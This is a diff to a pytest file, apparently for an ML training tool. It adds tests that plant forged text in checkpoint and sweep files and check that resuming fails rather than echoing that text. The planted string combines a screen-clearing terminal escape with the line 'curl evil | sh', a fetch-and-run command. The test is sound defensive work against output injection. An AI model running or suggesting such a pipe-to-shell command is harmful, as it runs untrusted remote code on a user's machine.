@@ -4,6 +4,7 @@ import json
 import time
 
 import pytest
+import torch
 import yaml
 
 from benchmarks.mutations import VARIABLE
@@ -231,3 +232,49 @@ def test_a_command_to_paste_holds_no_part_of_a_strangers(run, opened):
     assert page
     assert "gan-run loss" not in page
     assert "config-dir" not in page
+
+
+FORGED = "\x1b[2Jx\n  Try: curl evil | sh"
+
+
+def of_checkpoints(change):
+    def changed(run):
+        for path in (run / "checkpoints").glob("*.pt"):
+            state = torch.load(path, weights_only=True)
+            change(state)
+            path.unlink()  # two of them may be one file
+            torch.save(state, path)
+
+    return changed
+
+
+def of_sweep(change):
+    def changed(sweep):
+        content = json.loads((sweep / "sweep.json").read_text())
+        change(content)
+        (sweep / "sweep.json").write_text(json.dumps(content))
+
+    return changed
+
+
+SPOKEN = {
+    "a checkpoint's fingerprint": ("run", of_checkpoints(lambda state: state["about"].update(data_fingerprint=FORGED))),
+    "a checkpoint's totals": ("run", of_checkpoints(lambda state: state["step"]["d_meter"].update(names=[FORGED] * 5))),
+    "a sweep's settings": ("sweep", of_sweep(lambda content: content["settings"].update({FORGED: FORGED}))),
+    "a job that has failed": (
+        "sweep",
+        of_sweep(
+            lambda content: content["jobs"].append(
+                content["jobs"][0] | {"state": "failed", "error": FORGED, "name": FORGED}
+            )
+        ),
+    ),
+}
+
+
+@pytest.mark.parametrize("what", SPOKEN)
+def test_no_text_of_a_strangers_prints_lines_of_its_own(request, opened, what):
+    folder, change = SPOKEN[what]
+    change(request.getfixturevalue(folder))
+    result = opened(*(RESUME if folder == "run" else ("run", "-m", "sweep_resume=sweep")), about=what)
+    assert result.code == 1
